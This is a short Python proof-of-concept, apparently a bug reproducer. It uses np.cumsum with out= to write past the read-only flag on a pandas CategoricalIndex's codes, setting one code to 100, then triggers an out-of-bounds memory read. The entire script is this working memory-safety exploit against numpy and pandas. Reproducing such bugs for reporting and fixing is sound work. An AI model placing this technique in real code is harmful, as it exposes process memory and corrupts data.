# source: numpy 1.24 cumulative ufunc out= (ufunc.accumulate / np.cumsum) ignores the WRITEABLE flag; pandas keeps index codes read-only and indexes with them unchecked (pandas/_libs take_1d / groupby kernels)
# family: write into a read-only array pandas trusts via np.cumsum(out=), here a CategoricalIndex's codes, then out-of-bounds read
# goal: set a CategoricalIndex code to 100 (2 categories) so np.asarray(idx) reads int64 words beyond the categories' buffer
import numpy as np
import pandas as pd

ci = pd.CategoricalIndex([7, 8])
np.cumsum(np.array([0, 100], dtype=ci.codes.dtype), out=ci.codes)
print("codes after:", ci.codes.tolist(), flush=True)
print("values read through the codes:", np.asarray(ci).tolist(), flush=True)
